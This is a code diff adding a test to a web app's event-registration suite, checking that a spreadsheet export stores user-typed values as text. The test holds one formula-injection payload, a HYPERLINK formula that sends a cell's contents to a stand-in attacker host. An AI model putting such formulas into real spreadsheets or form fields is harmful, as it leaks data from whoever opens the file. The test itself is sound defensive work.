@@ -611,3 +611,18 @@ def test_reviewers_cannot_download_the_exports(app, staff_client, event):
     reviewer = staff_client("reviewer")
 
     assert reviewer.get(f"/admin/events/{event.id}/attendees.xlsx").status_code == 403
+
+
+def test_text_a_unit_typed_is_exported_as_text_never_as_a_formula(app, client, staff, event):
+    from tests.conftest import post_form, registration_form
+
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    form = registration_form(event, 1, unit_name=formula, city="=1+1")
+    assert post_form(client, f"/events/{event.key}/register", form).status_code == 302
+
+    response = staff.get(f"/admin/events/{event.id}/registrations.xlsx")
+    sheet = load_workbook(BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in (formula, "=1+1")]
+
+    assert len(cells) == 3  # unit name, city, and the invoice title that defaults to the name
+    assert all(cell.data_type == "s" for cell in cells)
